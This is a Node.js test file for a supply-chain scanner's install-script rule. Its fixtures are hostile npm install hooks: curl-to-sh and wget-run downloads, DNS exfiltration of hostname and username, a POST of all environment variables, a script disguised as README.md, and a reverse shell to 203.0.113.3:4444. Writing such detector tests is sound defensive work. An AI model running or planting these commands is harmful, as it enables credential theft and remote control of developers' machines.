import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, scanFiles } from "../helpers.js";

describe("rule install-scripts", () => {
  it("flags curl piped to sh in postinstall as critical", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { postinstall: "curl -s https://x.example/i.sh | sh" } }) });
    assert.equal(ofRule(report.findings, "install-scripts", "critical").length, 1);
    assert.equal(report.verdict, "malicious");
  });
  it("flags a command expansion that downloads in binding.gyp", async () => {
    const gyp = `{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://x.example/p | sh)"] }] }`;
    const report = await scanFiles({ "package.json": manifest({}), "binding.gyp": gyp });
    assert.ok(ofRule(report.findings, "install-scripts", "critical").length > 0, JSON.stringify(report.findings));
  });
  it("does not flag node-addon-api's include expansion or a node-gyp rebuild", async () => {
    const gyp = `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`;
    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "node-gyp rebuild" } }), "binding.gyp": gyp });
    assert.deepEqual(ofRule(report.findings, "install-scripts", "medium"), []);
    assert.equal(report.verdict, "ok");
  });
  it("flags a Windows background start in preinstall (ua-parser-js)", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" } }), "preinstall.js": "" });
    assert.ok(ofRule(report.findings, "install-scripts", "high").length > 0);
  });
  it("treats a script that install-time code names as install-time too", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { preinstall: "node preinstall.js" } }),
      "preinstall.js": "require('child_process').exec('/bin/bash preinstall.sh');",
      "preinstall.sh": "wget -q http://x.example/a -O a\nchmod +x a\n./a\n",
    });
    assert.ok(report.findings.some((f) => f.rule === "download-execute" && f.file === "preinstall.sh" && f.severity === "high"), JSON.stringify(report.findings));
  });
  it("does not weigh bcrypt's node -p version probe in binding.gyp", async () => {
    const gyp = `{ "variables": { "node_major": "<!(node -p \\"process.versions.node.split(\\\\\\".\\\\\\")[0]\\")" } }`;
    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "node-gyp-build" } }), "binding.gyp": gyp });
    assert.deepEqual(ofRule(report.findings, "install-scripts", "medium"), [], JSON.stringify(report.findings));
  });
  it("analyzes inline node -e code as install-time code and finds the file it requires", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" } }),
      "postinstall.js": "const { spawn } = require('child_process'); spawn(process.execPath, ['x.js'], { detached: true, stdio: 'ignore' }).unref();",
    });
    assert.ok(ofRule(report.findings, "detached-spawn", "high").length > 0, "postinstall.js is install-time code");
  });
  it("keeps core-js style postinstall banners ok", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" } }),
      "postinstall.js": "var env = process.env; var ADBLOCK = is(env.ADBLOCK); if (!ADBLOCK && !is(env.CI)) console.log('\\u001B[96mThank you for using core-js\\u001B[0m');",
    });
    assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
  });
  it("flags host facts spelled into DNS queries by an install command", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { install: "host $(hostname).probe.invalid; host $(whoami).probe.invalid" } }) });
    assert.equal(ofRule(report.findings, "install-scripts", "critical").length, 1);
  });
  it("flags an install command that calls a tunnel or OAST host", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "curl http://abcd-203-0-113-1.ngrok.io/$(pwd)" } }) });
    assert.equal(report.verdict, "malicious");
  });
  it("flags node running a file disguised as documentation", async () => {
    const report = await scanFiles({ "package.json": manifest({ scripts: { preinstall: "node lib/README.md" } }), "lib/README.md": "throw 0;" });
    assert.ok(ofRule(report.findings, "install-scripts", "high").length > 0);
  });
  it("treats a helper module an install script requires as install-time code (env exfiltration moved out of the script)", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node install.js" } }),
      "install.js": "throw 0; require('./lib/report')();",
      "lib/report.js": "throw 0; module.exports = () => fetch('https://telemetry.invalid/i', { method: 'POST', body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n') });",
    });
    assert.ok(report.findings.some((f) => f.rule === "exfiltration" && f.file === "lib/report.js" && f.severity === "critical"), JSON.stringify(report.findings));
  });
  it("runs the package's main for `node .`", async () => {
    const report = await scanFiles({
      "package.json": manifest({ main: "lib.js", scripts: { postinstall: "node ." } }),
      "lib.js": "throw 0; require('child_process').spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();",
    });
    assert.ok(ofRule(report.findings, "detached-spawn", "high").length > 0, JSON.stringify(report.findings));
  });
  it("does not weigh a package.json that install-time code reads as code", async () => {
    const report = await scanFiles({
      "package.json": manifest({ scripts: { postinstall: "node setup.js", release: "npm pack . && npm publish" } }),
      "setup.js": "const pkg = require('./package.json'); console.log(pkg.version);",
    });
    assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
  });
  it("reads an extensionless script with a node shebang as JavaScript", async () => {
    const report = await scanFiles({
      "package.json": manifest({ bin: { tool: "bin/tool" } }),
      "bin/tool": "#!/usr/bin/env node\nthrow 0; const net = require('net'); const sh = require('child_process').spawn('/bin/sh'); const s = net.connect(4444, '203.0.113.3', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); });\n",
    });
    assert.equal(report.verdict, "malicious", JSON.stringify(report.findings));
  });
});
